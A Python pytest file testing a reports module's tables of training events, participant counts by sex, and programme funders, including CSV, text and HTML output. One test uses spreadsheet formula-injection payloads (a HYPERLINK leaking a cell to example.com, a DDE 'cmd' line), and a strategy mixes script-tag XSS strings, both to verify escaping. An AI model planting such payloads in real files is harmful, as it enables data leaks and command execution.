"""The report tables: exact rows for the Madrid example, every counting decision, and views.

Each decision of docs/reports.md has a test here: which country and year an
event counts in, which head count stands for an event and how counts of
different certainty add up, how programmes and money show. Properties over
catalogues of every shape check that the counts add up and that the text,
CSV, records, HTML and DataFrame views of a table agree.
"""

from __future__ import annotations

import ast
import csv
import importlib.util
import io
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

import gloact_model.reports
from gloact_model import (
    AttendanceMode,
    Catalogue,
    CountQualifier,
    Country,
    Event,
    EventKind,
    EventRelation,
    EventStatus,
    Funder,
    Location,
    Money,
    Organisation,
    Participation,
    Period,
    Programme,
    Session,
    SessionKind,
    ShareOfWomen,
    load,
)
from gloact_model.reports import (
    TABLES,
    CountryYearRow,
    KindRow,
    ParticipantsRow,
    Plain,
    ProgrammeFunderRow,
    Table,
    event_year,
    events_by_country_and_year,
    events_by_kind,
    participants_by_sex,
    programmes_and_funders,
    tables,
)
from gloact_model.reports._table import display_width
from gloact_model.testing import catalogues, consistent_catalogues, events
from tests.conftest import MADRID

needs_pandas = pytest.mark.skipif(
    importlib.util.find_spec("pandas") is None,
    reason="needs pandas: pip install 'gloact_model[pandas]'",
)

EXACT = CountQualifier.EXACT
LOWER_BOUND = CountQualifier.LOWER_BOUND
APPROXIMATE = CountQualifier.APPROXIMATE
HELD, PLANNED, CANCELLED = EventStatus.HELD, EventStatus.PLANNED, EventStatus.CANCELLED
ES, AT = Country("ES"), Country("AT")


@pytest.fixture(scope="module")
def madrid() -> Catalogue:
    return load(MADRID)


def event(
    event_id: str,
    *,
    kind: EventKind = EventKind.WORKSHOP,
    status: EventStatus = HELD,
    period: str | None = None,
    country: str | None = None,
    participation: Participation | None = None,
    sessions: tuple[Session, ...] = (),
    parent_id: str | None = None,
    **more: Any,
) -> Event:
    return Event(
        id=event_id,
        name=event_id.replace("-", " ").capitalize(),
        kind=kind,
        status=status,
        period=None if period is None else Period.parse(period),
        location=None if country is None else Location(country=Country(country)),
        participation=participation,
        sessions=sessions,
        parent_id=parent_id,
        **more,
    )


def session(session_id: str, participation: Participation | None) -> Session:
    return Session(id=session_id, kind=SessionKind.TRAINING, participation=participation)


def of(*records: Event | Programme | Organisation) -> Catalogue:
    return Catalogue.from_records(records)


# The Madrid example -------------------------------------------------------------


def test_the_registry_names_each_table_and_tables_gives_them_in_its_order(
    madrid: Catalogue,
) -> None:
    assert list(TABLES) == [
        "events-by-country-year",
        "events-by-kind",
        "participants-by-sex",
        "programmes-and-funders",
    ]
    made = tables(madrid)
    assert [t.name for t in made] == list(TABLES)
    assert made == tuple(make(madrid) for make in TABLES.values())
    assert [t.row_type for t in made] == [
        CountryYearRow,
        KindRow,
        ParticipantsRow,
        ProgrammeFunderRow,
    ]
    with pytest.raises(TypeError):
        TABLES["mine"] = events_by_kind  # type: ignore[index]


def test_madrid_events_by_country_and_year(madrid: Catalogue) -> None:
    table = events_by_country_and_year(madrid)
    assert (table.name, table.title) == ("events-by-country-year", "Events by country and year")
    assert list(table) == [
        CountryYearRow(country=AT, year=None, planned=1),
        CountryYearRow(country=ES, year=2018, held=1),
        CountryYearRow(country=None, year=None, held=2),
    ]
    assert table.records() == [
        {"country": "AT", "country_name": "Austria", "year": None,
         "held": 0, "planned": 1, "cancelled": 0},
        {"country": "ES", "country_name": "Spain", "year": 2018,
         "held": 1, "planned": 0, "cancelled": 0},
        {"country": None, "country_name": None, "year": None,
         "held": 2, "planned": 0, "cancelled": 0},
    ]  # fmt: skip
    assert table.to_text() == (
        "Events by country and year\n"
        "country          year  held  planned  cancelled\n"
        "------------  -------  ----  -------  ---------\n"
        "Austria (AT)  unknown     0        1          0\n"
        "Spain (ES)       2018     1        0          0\n"
        "unknown       unknown     2        0          0\n"
    )
    assert table.to_csv() == (
        "country,country_name,year,held,planned,cancelled\r\n"
        "AT,Austria,,0,1,0\r\n"
        "ES,Spain,2018,1,0,0\r\n"
        ",,,2,0,0\r\n"
    )


def test_madrid_events_by_kind(madrid: Catalogue) -> None:
    table = events_by_kind(madrid)
    assert table.rows == (
        KindRow(kind=EventKind.TRAINING_COURSE, held=1),
        KindRow(kind=EventKind.MEETING, held=1),
        KindRow(kind=EventKind.SCREENING, held=1, planned=1),
    )
    assert table.to_text() == (
        "Events by kind\n"
        "kind             held  planned  cancelled\n"
        "---------------  ----  -------  ---------\n"
        "training course     1        0          0\n"
        "meeting             1        0          0\n"
        "screening           1        1          0\n"
    )
    assert table.to_csv().splitlines()[1] == "training_course,1,0,0"


def test_madrid_participants_by_sex(madrid: Catalogue) -> None:
    table = participants_by_sex(madrid)
    assert table.rows == (
        ParticipantsRow(
            event_id="osce-bsm-workshop-5-madrid-2018",
            event="Fifth Border Security and Management Workshop",
            country=ES,
            year=2018,
            total=22,
            total_qualifier=EXACT,
            counted_at="osce-bsm-workshop-5-madrid-2018",
        ),
        # The premiere's people were not counted; the meeting within it is part of it.
        ParticipantsRow(
            event_id="el-proxeneta-premiere", event="Premiere of the documentary El Proxeneta"
        ),
        ParticipantsRow(
            event_id=None, event="All held events", total=22, total_qualifier=LOWER_BOUND
        ),
    )
    assert table.to_text() == (
        "Participants by sex\n"
        "event                                          participants    women      men"
        "  share of women\n"
        "---------------------------------------------  ------------  -------  -------"
        "  --------------\n"
        "Fifth Border Security and Management Workshop            22  unknown  unknown"
        "         unknown\n"
        "Premiere of the documentary El Proxeneta            unknown  unknown  unknown"
        "         unknown\n"
        "All held events                                 at least 22  unknown  unknown"
        "         unknown\n"
    )
    assert table.to_csv().splitlines() == [
        "event_id,event,country,year,total,total_qualifier,women,women_qualifier,men,"
        "men_qualifier,share_women,share_women_qualifier,counted_at",
        "osce-bsm-workshop-5-madrid-2018,Fifth Border Security and Management Workshop,ES,2018,"
        "22,exact,,,,,,,osce-bsm-workshop-5-madrid-2018",
        "el-proxeneta-premiere,Premiere of the documentary El Proxeneta,,,,,,,,,,,",
        ",All held events,,,22,lower_bound,,,,,,,",
    ]


def test_madrid_programmes_and_funders(madrid: Catalogue) -> None:
    table = programmes_and_funders(madrid)
    osce_name = madrid.programme("osce-bsm-mediterranean-initiative").name
    assert table.rows == (
        ProgrammeFunderRow(
            programme_id="glo-act",
            programme=madrid.programme("glo-act").name,
            acronym="GLO.ACT",
            period=Period.parse("2015/2019"),
            budget=Money(amount=Decimal(11_000_000), currency="EUR"),
            funder_id="eu",
            funder="European Union",
        ),
        ProgrammeFunderRow(programme_id="osce-bsm-mediterranean-initiative", programme=osce_name),
    )
    assert table.records()[0] == {
        "programme_id": "glo-act",
        "programme": "Global Action to Prevent and Address Trafficking in Persons and the "
        "Smuggling of Migrants",
        "acronym": "GLO.ACT",
        "parent_id": None,
        "period": "2015/2019",
        "budget_amount": 11_000_000,
        "budget_currency": "EUR",
        "funder_id": "eu",
        "funder": "European Union",
        "contribution_amount": None,
        "contribution_currency": None,
        "status": None,
        "follows_id": None,
        "original_budget_amount": None,
        "original_budget_currency": None,
        "revised_budget_amount": None,
        "revised_budget_currency": None,
    }
    assert table.to_text() == (
        "Programmes, funders and budgets\n"
        "programme                                         period             budget"
        "  funder          contribution\n"
        "------------------------------------------------  ---------  --------------"
        "  --------------  ------------\n"
        "GLO.ACT                                           2015/2019  EUR 11,000,000"
        "  European Union       unknown\n"
        "OSCE initiative for co-operation between the bo…  unknown           unknown"
        "  unknown              unknown\n"
    )
    assert table.to_csv().splitlines()[1] == (
        "glo-act,Global Action to Prevent and Address Trafficking in Persons and the Smuggling "
        "of Migrants,GLO.ACT,,2015/2019,11000000,EUR,eu,European Union,,,,,,,,"
    )


def test_a_table_repr_counts_its_rows_rather_than_listing_them(madrid: Catalogue) -> None:
    assert repr(events_by_kind(madrid)).endswith("rows=<3 rows>)")
    assert repr(events_by_kind(Catalogue())).endswith("rows=<0 rows>)")


# Events by country and year --------------------------------------------------------


def test_an_event_counts_in_its_location_country_whatever_its_attendance_mode() -> None:
    online_from_vienna = event("webinar", country="AT", attendance_mode=AttendanceMode.ONLINE)
    online_nowhere = event("online", attendance_mode=AttendanceMode.ONLINE)
    city_only = attrs.evolve(event("city"), location=Location(city="Madrid"))
    no_location = event("nowhere")
    rows = events_by_country_and_year(
        of(online_from_vienna, online_nowhere, city_only, no_location)
    ).rows
    assert rows == (
        CountryYearRow(country=AT, year=None, held=1),
        CountryYearRow(country=None, year=None, held=3),
    )


@pytest.mark.parametrize(
    ("period", "duration", "year"),
    [
        ("2018", None, 2018),  # known to the year only
        ("2018-10", None, 2018),
        ("2018-10-23", None, 2018),
        ("2018-10/..", None, 2018),  # open at the end: still started in 2018
        ("2018-12-30/2019-01-02", None, 2018),  # spans two years: counts in the first
        ("2018/2019", None, 2018),
        ("../2018-10-26", None, None),  # known only by its end: may have started any time
        ("../2018-10-26", 5, 2018),  # ... unless its length fixes the start
        ("../2019-01-03", 5, 2018),  # started 30 December 2018
        ("../2019-01", 5, None),  # started between 28 December 2018 and 27 January 2019
        ("../2019-01-02", 5, 2018),
        ("../2019-01-05", 5, 2019),
        ("../0001-01-01", 2, None),  # would start before the year 1
        (None, None, None),
    ],
)
def test_an_event_counts_in_the_year_it_certainly_started(
    period: str | None, duration: int | None, year: int | None
) -> None:
    workshop = event("w", period=period, duration_days=duration)
    assert event_year(workshop) == year
    assert events_by_country_and_year(of(workshop)).rows == (
        CountryYearRow(country=None, year=year, held=1),
    )


def test_rows_are_ordered_by_country_code_then_year_unknowns_last() -> None:
    catalogue = of(
        event("a", period="2019", country="ES"),
        event("b"),
        event("c", period="2017", country="ES"),
        event("d", country="ES"),
        event("e", period="2018", country="AT"),
        event("f", period="2016"),
        event("g", period="2018", country="AT", status=PLANNED),
        event("h", period="2018", country="AT", status=CANCELLED),
    )
    table = events_by_country_and_year(catalogue)
    assert [(r.country, r.year) for r in table] == [
        (AT, 2018),
        (ES, 2017),
        (ES, 2019),
        (ES, None),
        (None, 2016),
        (None, None),
    ]
    assert table.rows[0] == CountryYearRow(country=AT, year=2018, held=1, planned=1, cancelled=1)


# Events by kind ---------------------------------------------------------------------


def test_kinds_follow_the_vocabulary_order_and_only_those_that_occur() -> None:
    catalogue = of(
        event("a", kind=EventKind.OTHER),
        event("b", kind=EventKind.WEBINAR, status=CANCELLED),
        event("c", kind=EventKind.WORKSHOP),
        event("d", kind=EventKind.WEBINAR),
        event("e", kind=EventKind.WEBINAR, status=PLANNED),
    )
    assert events_by_kind(catalogue).rows == (
        KindRow(kind=EventKind.WORKSHOP, held=1),
        KindRow(kind=EventKind.WEBINAR, held=1, planned=1, cancelled=1),
        KindRow(kind=EventKind.OTHER, held=1),
    )


# Participants by sex ------------------------------------------------------------------


def counts(
    total: int | None = None,
    women: int | None = None,
    men: int | None = None,
    qualifier: CountQualifier = EXACT,
) -> Participation:
    return Participation(total=total, women=women, men=men, qualifier=qualifier)


def by_event(catalogue: Catalogue) -> dict[str | None, ParticipantsRow]:
    return {row.event_id: row for row in participants_by_sex(catalogue)}


def test_an_exact_count_gives_the_share_of_women_among_women_and_men() -> None:
    row = by_event(of(event("a", participation=counts(30, 12, 15))))["a"]
    assert (row.total, row.women, row.men) == (30, 12, 15)
    assert (row.total_qualifier, row.women_qualifier, row.men_qualifier) == (EXACT,) * 3
    assert row.share_women == 12 / 27  # the three people of unknown sex are not guessed
    assert row.counted_at == "a"


@pytest.mark.parametrize(
    ("qualifier", "shown"), [(APPROXIMATE, "about 50%"), (LOWER_BOUND, "50% (of lower bounds)")]
)
def test_a_share_of_women_from_uncertain_counts_is_marked_as_such(
    qualifier: CountQualifier, shown: str
) -> None:
    catalogue = of(event("a", participation=counts(40, 20, 20, qualifier)))
    row = by_event(catalogue)["a"]
    assert (row.total_qualifier, row.women_qualifier, row.men_qualifier) == (qualifier,) * 3
    assert (row.share_women, row.share_women_qualifier) == (0.5, qualifier)
    assert shown in participants_by_sex(catalogue).to_text()
    assert f"0.5,{qualifier.value}," in participants_by_sex(catalogue).to_csv()


@pytest.mark.parametrize(("women", "men"), [(12, None), (None, 15), (0, 0)])
def test_no_share_of_women_without_both_counts(women: int | None, men: int | None) -> None:
    row = by_event(of(event("a", participation=counts(30, women, men))))["a"]
    assert row.share_women is None
    assert (row.women_qualifier is None) == (women is None)


def test_an_event_with_its_own_count_ignores_its_sessions_and_sub_events() -> None:
    catalogue = of(
        event(
            "a",
            participation=counts(30, 10, 20),
            sessions=(session("s1", counts(25, 9, 16)), session("s2", counts(40))),
        ),
        event("side", parent_id="a", participation=counts(50)),
    )
    assert by_event(catalogue) == {
        "a": ParticipantsRow(
            event_id="a",
            event="A",
            total=30,
            total_qualifier=EXACT,
            women=10,
            women_qualifier=EXACT,
            men=20,
            men_qualifier=EXACT,
            share_women=1 / 3,
            share_women_qualifier=EXACT,
            counted_at="a",
        ),
        None: ParticipantsRow(
            event_id=None,
            event="All held events",
            total=30,
            total_qualifier=EXACT,
            women=10,
            women_qualifier=EXACT,
            men=20,
            men_qualifier=EXACT,
            share_women=1 / 3,
            share_women_qualifier=EXACT,
        ),
    }


def test_without_its_own_count_an_event_had_at_least_its_largest_part() -> None:
    catalogue = of(
        event(
            "a",
            participation=Participation(description="Border officers"),  # no count
            sessions=(
                session("s1", counts(25, 10, 15)),
                session("s2", counts(28)),
                session("s3", None),
            ),
        ),
        event("side", parent_id="a", participation=counts(26, 13, 13)),
        event("big-planned-side", parent_id="a", status=PLANNED, participation=counts(99)),
    )
    row = by_event(catalogue)["a"]
    # Never 25 + 28 + 26: the same people may attend every part. Column by
    # column, the event had at least as many as its largest part counted.
    assert (row.total, row.women, row.men) == (28, 13, 15)
    assert {row.total_qualifier, row.women_qualifier, row.men_qualifier} == {LOWER_BOUND}
    assert row.counted_at == "a/s2, side, a/s1"
    # The share of the counts shown, which are lower bounds: marked, never exact.
    assert (row.share_women, row.share_women_qualifier) == (13 / 28, LOWER_BOUND)


def test_a_part_counted_by_sex_only_still_says_how_many_came_at_least() -> None:
    by_sex_only = session("s1", counts(None, 6, 5))
    catalogue = of(event("a", sessions=(by_sex_only, session("s2", counts(10)))))
    row = by_event(catalogue)["a"]
    assert (row.total, row.women, row.men) == (10, 6, 5)  # not "unknown" people
    assert row.counted_at == "a/s2, a/s1"


def test_a_part_counted_approximately_stays_approximate() -> None:
    catalogue = of(event("a", sessions=(session("s", counts(40, 20, 20, APPROXIMATE)),)))
    row = by_event(catalogue)["a"]
    assert (row.total, row.total_qualifier, row.women_qualifier) == (40, APPROXIMATE, APPROXIMATE)


def test_sub_events_count_through_their_own_parts_and_only_within_their_top_event() -> None:
    catalogue = of(
        event("top"),
        event("middle", parent_id="top"),
        event("bottom", parent_id="middle", sessions=(session("s", counts(12, 5, 7)),)),
        event("elsewhere", parent_id="not-in-the-catalogue", participation=counts(3)),
    )
    rows = by_event(catalogue)
    assert list(rows) == ["top", "elsewhere", None]  # a missing parent makes a top event
    top = rows["top"]
    assert (top.total, top.women, top.men) == (12, 5, 7)
    assert {top.total_qualifier, top.women_qualifier, top.men_qualifier} == {LOWER_BOUND}
    assert top.counted_at == "bottom/s"
    assert rows[None].total == 15


def test_only_held_events_reach_people() -> None:
    catalogue = of(
        event("planned", status=PLANNED, participation=counts(100)),
        event("cancelled", status=CANCELLED, participation=counts(100)),
    )
    assert participants_by_sex(catalogue).rows == ()


def test_a_held_side_event_of_an_event_that_was_not_held_is_a_row_of_its_own() -> None:
    catalogue = of(
        event("conference", status=CANCELLED, participation=counts(300)),
        event("side-meeting", parent_id="conference", participation=counts(40, 25, 15)),
        event("its-session", parent_id="side-meeting", participation=counts(12)),
        event("launch", status=PLANNED),
        event("press-briefing", parent_id="launch", sessions=(session("s", counts(9)),)),
    )
    rows = by_event(catalogue)
    assert list(rows) == ["side-meeting", "press-briefing", None]  # its people were reached
    assert (rows["side-meeting"].total, rows["side-meeting"].share_women) == (40, 25 / 40)
    assert (rows["press-briefing"].total, rows["press-briefing"].counted_at) == (
        9,
        "press-briefing/s",
    )
    assert (rows[None].total, rows[None].total_qualifier) == (49, LOWER_BOUND)


def test_events_whose_parents_run_in_a_circle_still_count_once() -> None:
    catalogue = of(
        event("a", parent_id="b", participation=counts(5)),
        event("b", parent_id="a", participation=counts(7)),
        event("c", parent_id="b"),
    )
    assert [(r.event_id, r.total) for r in participants_by_sex(catalogue)] == [
        ("a", 5),
        (None, 5),
    ]


def test_the_last_row_adds_up_exact_counts_exactly() -> None:
    catalogue = of(
        event("a", participation=counts(30, 10, 20)), event("b", participation=counts(10, 5, 5))
    )
    total = by_event(catalogue)[None]
    assert (total.total, total.women, total.men) == (40, 15, 25)
    assert {total.total_qualifier, total.women_qualifier, total.men_qualifier} == {EXACT}
    assert total.share_women == 15 / 40


def test_the_last_row_says_at_least_where_an_event_was_not_counted() -> None:
    catalogue = of(
        event("a", participation=counts(30, 10, 20)),
        event("b", participation=counts(10)),
        event("c"),
    )
    total = by_event(catalogue)[None]
    assert (total.total, total.total_qualifier) == (40, LOWER_BOUND)
    assert (total.women, total.women_qualifier) == (10, LOWER_BOUND)
    # Only "a" counted anyone by sex, exactly: the share is of the sums shown.
    assert total.share_women == 10 / 30
    assert "at least 40" in participants_by_sex(catalogue).to_text()


def test_the_last_row_never_adds_an_approximate_count_to_an_exact_one_silently() -> None:
    catalogue = of(
        event("a", participation=counts(30, 10, 20)),
        event("b", participation=counts(40, 20, 20, APPROXIMATE)),
        event("c", participation=counts(None, 5, None, LOWER_BOUND)),
    )
    total = by_event(catalogue)[None]
    assert (total.total, total.total_qualifier) == (70, APPROXIMATE)
    assert (total.women, total.women_qualifier) == (35, APPROXIMATE)
    assert (total.men, total.men_qualifier) == (40, APPROXIMATE)
    # A share of the exact event alone (33%) beside about 35 women and about 40
    # men (47%) would be read as the share of those: no share is given.
    assert total.share_women is None
    text = participants_by_sex(catalogue).to_text()
    assert "about 70" in text
    assert "at least 5" in text
    assert "about 35" in text
    assert text.splitlines()[-1].endswith("unknown")


@pytest.mark.parametrize(
    "other",
    [
        counts(10, 5, None),  # women counted, men not: the sums are of different events
        counts(10, None, 5),
    ],
)
def test_the_last_row_gives_a_share_only_of_the_sums_it_shows(other: Participation) -> None:
    catalogue = of(event("a", participation=counts(30, 10, 20)), event("b", participation=other))
    assert by_event(catalogue)["a"].share_women == 1 / 3
    assert by_event(catalogue)[None].share_women is None


@pytest.mark.parametrize("qualifier", [APPROXIMATE, LOWER_BOUND])
def test_the_last_row_marks_a_share_of_uncertain_sums(qualifier: CountQualifier) -> None:
    other = counts(40, 20, 20, qualifier)
    catalogue = of(event("a", participation=counts(30, 10, 20)), event("b", participation=other))
    total = by_event(catalogue)[None]
    assert (total.share_women, total.share_women_qualifier) == (30 / 70, qualifier)


def test_the_last_row_of_events_without_counts_is_unknown() -> None:
    total = by_event(of(event("a")))[None]
    assert total == ParticipantsRow(event_id=None, event="All held events")


# Programmes and funders -----------------------------------------------------------------


def test_each_funder_has_a_row_with_its_contribution_in_its_own_currency() -> None:
    programme = Programme(
        id="p",
        name="A programme",
        budget=Money(amount=Decimal("1000000.50"), currency="EUR"),
        funders=(
            Funder(
                organisation_id="eu", contribution=Money(amount=Decimal(900000), currency="EUR")
            ),
            Funder(
                organisation_id="usa", contribution=Money(amount=Decimal("1E-6"), currency="USD")
            ),
            Funder(organisation_id="unknown-body"),
        ),
    )
    table = programmes_and_funders(of(programme, Organisation(id="eu", name="European Union")))
    assert [(r.funder_id, r.funder, r.contribution) for r in table] == [
        ("eu", "European Union", Money(amount=Decimal(900000), currency="EUR")),
        ("usa", None, Money(amount=Decimal("0.000001"), currency="USD")),
        ("unknown-body", None, None),
    ]
    assert {r.budget for r in table} == {programme.budget}
    records = table.records()
    assert [(r["budget_amount"], r["budget_currency"]) for r in records] == [(1000000.5, "EUR")] * 3
    assert [(r["contribution_amount"], r["contribution_currency"]) for r in records] == [
        (900000, "EUR"),
        (1e-06, "USD"),
        (None, None),
    ]
    assert isinstance(records[0]["contribution_amount"], int)
    body = table.to_csv().splitlines()[1:]
    assert [line.split(",")[5:11] for line in body] == [
        ["1000000.5", "EUR", "eu", "European Union", "900000", "EUR"],
        ["1000000.5", "EUR", "usa", "", "0.000001", "USD"],
        ["1000000.5", "EUR", "unknown-body", "", "", ""],
    ]
    text = table.to_text()
    assert "EUR 1,000,000.5" in text
    assert "EUR 900,000" in text
    assert "USD 0.000001" in text
    assert "unknown-body" in text  # a funder that the catalogue lacks shows by its id


def test_a_programme_without_funders_has_one_row_and_a_phase_names_its_parent() -> None:
    phase = Programme(id="phase-2", name="Phase II", parent_id="p", period=Period.parse("2020/.."))
    (row,) = programmes_and_funders(of(phase)).records()
    assert row["funder_id"] is None
    assert row["parent_id"] == "p"
    assert row["period"] == "2020/.."


# An empty catalogue ------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(TABLES))
def test_an_empty_catalogue_gives_tables_without_rows_that_still_show_their_headers(
    name: str,
) -> None:
    table = TABLES[name](Catalogue())
    assert table.rows == ()
    assert list(table) == []
    assert table.records() == []
    assert table.to_csv() == ",".join(table.columns) + "\r\n"
    text = table.to_text().splitlines()
    assert text[0] == table.title
    assert text[-1] == "(no rows)"
    assert len(text) == 4
    assert text[1].split() == " ".join(c.heading for c in table.row_type._text_columns).split()
    assert "<th " in table._repr_html_()
    assert "(no rows)" in table._repr_html_()
    assert len(table) == 0
    assert not table


@needs_pandas
@pytest.mark.parametrize("name", list(TABLES))
def test_an_empty_catalogue_gives_dataframes_without_rows(name: str) -> None:
    table = TABLES[name](Catalogue())
    frame = table.to_dataframe()
    assert list(frame.columns) == list(table.columns)
    assert len(frame) == 0


# Properties over catalogues of every shape ---------------------------------------------------

any_catalogue = st.one_of(catalogues(max_records=3), consistent_catalogues(max_records=3))


@given(any_catalogue)
def test_every_event_counts_once_by_kind_and_by_country_and_year(catalogue: Catalogue) -> None:
    for table in (events_by_kind(catalogue), events_by_country_and_year(catalogue)):
        rows: tuple[KindRow | CountryYearRow, ...] = table.rows
        for status in EventStatus:
            counted = sum(getattr(row, status.value) for row in rows)
            assert counted == sum(e.status is status for e in catalogue.events)
        assert all(row.held + row.planned + row.cancelled > 0 for row in rows)
    keys = [(r.country, r.year) for r in events_by_country_and_year(catalogue)]
    assert len(set(keys)) == len(keys)


@given(any_catalogue)
def test_one_participants_row_per_held_top_event_then_their_sum(catalogue: Catalogue) -> None:
    held = {e.id: e.status is HELD for e in reversed(catalogue.events)}  # the first of an id
    rows = participants_by_sex(catalogue).rows
    if catalogue.validate().ok:  # parents resolve and never run in a circle
        # A held event whose parent is missing or was not held counts its own people,
        # and so does a side event, which is not a part of its parent.
        tops = [
            e.id
            for e in catalogue.events
            if e.status is HELD
            and (
                e.parent_id is None
                or e.parent_relation is EventRelation.SIDE_EVENT
                or not held.get(e.parent_id, False)
            )
        ]
        assert [r.event_id for r in rows[:-1]] == tops
    if not rows:
        return
    *events_, total = rows
    assert total.event_id is None
    assert all(r.event_id is not None for r in events_)
    for field in ("total", "women", "men"):
        known = [getattr(r, field) for r in events_ if getattr(r, field) is not None]
        assert getattr(total, field) == (sum(known) if known else None)
        qualifier = getattr(total, f"{field}_qualifier")
        assert (qualifier is None) == (not known)
        if qualifier is EXACT:
            assert len(known) == len(events_)
            assert all(getattr(r, f"{field}_qualifier") is EXACT for r in events_)
    for row in rows:
        if row.share_women is not None:
            assert 0 <= row.share_women <= 1


@given(any_catalogue)
def test_a_share_of_women_is_always_that_of_the_counts_beside_it(catalogue: Catalogue) -> None:
    for row in participants_by_sex(catalogue):
        if row.share_women is not None:
            assert row.women is not None
            assert row.men is not None
            assert row.share_women == row.women / (row.women + row.men)
            # Never shown as exact where a count is not; in the last row, a sum may be
            # "at least" only because some events counted nobody by sex.
            qualifiers = {row.women_qualifier, row.men_qualifier}
            if APPROXIMATE in qualifiers:
                assert row.share_women_qualifier is APPROXIMATE
            if row.share_women_qualifier is EXACT:
                allowed = {EXACT} if row.event_id is not None else {EXACT, LOWER_BOUND}
                assert qualifiers <= allowed
            if row.event_id is not None:
                share = ShareOfWomen.of(row.women, row.women_qualifier, row.men, row.men_qualifier)
                assert share is not None
                assert row.share_women_qualifier is share.basis
        else:
            assert row.share_women_qualifier is None


def counts_anyone(participation: Participation | None) -> bool:
    return participation is not None and any(
        n is not None for n in (participation.total, participation.women, participation.men)
    )


@given(any_catalogue, st.data())
def test_a_counted_event_is_not_changed_by_counts_of_its_parts(
    catalogue: Catalogue, data: st.DataObject
) -> None:
    ids = [e.id for e in catalogue.events]
    counted = [e for e in catalogue.events if counts_anyone(e.participation)]
    counted = [e for e in counted if e.status is HELD]  # a part of a planned event is not
    counted = [e for e in counted if ids.count(e.id) == 1]
    if not counted:
        return
    whole = data.draw(st.sampled_from(counted))
    size = data.draw(st.integers(0, 10**6))
    extra = session("extra-part", counts(size, size, 0))
    if any(s.id == extra.id for s in whole.sessions) or "extra-sub-event" in ids:
        return
    sub_event = event("extra-sub-event", parent_id=whole.id, participation=counts(size, 0, size))
    grown = catalogue.with_replaced(attrs.evolve(whole, sessions=(*whole.sessions, extra)))
    grown = grown.with_added(sub_event)
    assert participants_by_sex(grown) == participants_by_sex(catalogue)


def parse_cell(cell: str, kind: type) -> Plain:
    if cell == "":
        return None
    if kind is Decimal:
        amount = Decimal(cell)
        return int(amount) if amount == amount.to_integral_value() else float(amount)
    if kind in (int, float):
        return kind(cell)
    return cell


@given(any_catalogue)
def test_csv_reads_back_to_the_records(catalogue: Catalogue) -> None:
    for table in tables(catalogue):
        header, *body = csv.reader(io.StringIO(table.to_csv(escape_formulas=False), newline=""))
        assert tuple(header) == table.columns
        columns = table.row_type._columns
        parsed = [
            {c.name: parse_cell(cell, c.type) for cell, c in zip(cells, columns, strict=True)}
            for cells in body
        ]
        assert parsed == table.records()
        for record in parsed:
            assert all(
                value is None or type(value) in (str, int, float) for value in record.values()
            )
        if not any(
            isinstance(v, str) and v.startswith(FORMULA) for r in parsed for v in r.values()
        ):
            assert table.to_csv() == table.to_csv(escape_formulas=False)


FORMULA = ("=", "+", "-", "@")


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
    ],
)
def test_csv_writes_text_that_a_spreadsheet_would_run_as_text(name: str) -> None:
    catalogue = of(
        attrs.evolve(event("a", participation=counts(5)), name=name),
        Programme(id="p", name=name, acronym=name[:10]),
    )
    for table in (participants_by_sex(catalogue), programmes_and_funders(catalogue)):
        rows = list(csv.reader(io.StringIO(table.to_csv(), newline="")))[1:]
        cells = [cell for row in rows for cell in row]
        assert "'" + name in cells
        assert not any(cell.startswith(FORMULA) for cell in cells)
        plain = list(csv.reader(io.StringIO(table.to_csv(escape_formulas=False), newline="")))
        assert name in [cell for row in plain for cell in row]
    # Numbers are never touched: they are not text, and none is negative.
    first = next(csv.DictReader(io.StringIO(participants_by_sex(catalogue).to_csv())))
    assert first["total"] == "5"


@given(any_catalogue)
def test_text_shows_each_row_on_its_line_in_aligned_columns(catalogue: Catalogue) -> None:
    for table in tables(catalogue):
        title, heading, rule, *body = table.to_text().splitlines()
        assert title == table.title
        widths = [len(dashes) for dashes in rule.split("  ")]
        columns = table.row_type._text_columns
        assert len(widths) == len(columns)
        assert len(body) == (len(table.rows) or 1)
        shown = [(heading, tuple(c.heading for c in columns))]
        shown += [(line, row._texts()) for line, row in zip(body, table.rows, strict=False)]
        for line, cells in shown:
            start = 0
            for whole, width, column in zip(cells, widths, columns, strict=True):
                cell = whole if display_width(whole) <= 48 else shortened(whole)
                assert display_width(cell) <= width
                # Each cell sits in its column: numbers at its right edge, text at its left.
                at = start + width - display_width(cell) if column.numeric else start
                before, rest = cut(line, at)
                assert display_width(before) == at, (line, cell)
                assert rest.startswith(cell), (line, cell)
                start += width + 2
            assert line == line.rstrip()


def cut(line: str, columns: int) -> tuple[str, str]:
    """`line` split where `columns` columns of a terminal have been filled."""
    for at in range(len(line) + 1):
        if display_width(line[:at]) >= columns:
            return line[:at], line[at:]
    return line, ""


def shortened(text: str) -> str:
    kept = ""
    for char in text:
        if display_width(kept + char) > 47:
            break
        kept += char
    return kept + "…"


def test_text_columns_line_up_in_any_script() -> None:
    catalogue = of(
        # Each of these characters takes two columns; the accent combines, taking none.
        attrs.evolve(event("tokyo", participation=counts(3)), name="東京でのワークショップ"),
        attrs.evolve(event("bogota", participation=counts(12)), name="Taller en Bogota\u0301"),
        attrs.evolve(event("plain", participation=counts(100)), name="A workshop"),
    )
    _, _heading, rule, *body = participants_by_sex(catalogue).to_text().splitlines()
    assert rule.startswith("-" * 22 + "  ")
    ends = {
        display_width(line[: line.index(n) + len(n)])
        for line, n in zip(body, ["3", "12", "100", "115"], strict=True)
    }
    assert len(ends) == 1  # the counts end in one column
    wide = attrs.evolve(event("x"), name="東" * 30)  # 60 columns: shortened to 48
    shown = participants_by_sex(of(wide)).to_text().splitlines()[3]
    assert shown.startswith("東" * 23 + "…  ")


class _Page(HTMLParser):
    """The tags and the text of an HTML page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


hostile = st.lists(
    st.sampled_from(["<script>alert(1)</script>", "&amp;", '"', "'", "</td>", "<b>", "x"]),
    min_size=1,
    max_size=4,
).map(lambda parts: "x" + "".join(parts))


@given(st.lists(st.tuples(hostile, events()), max_size=3), hostile)
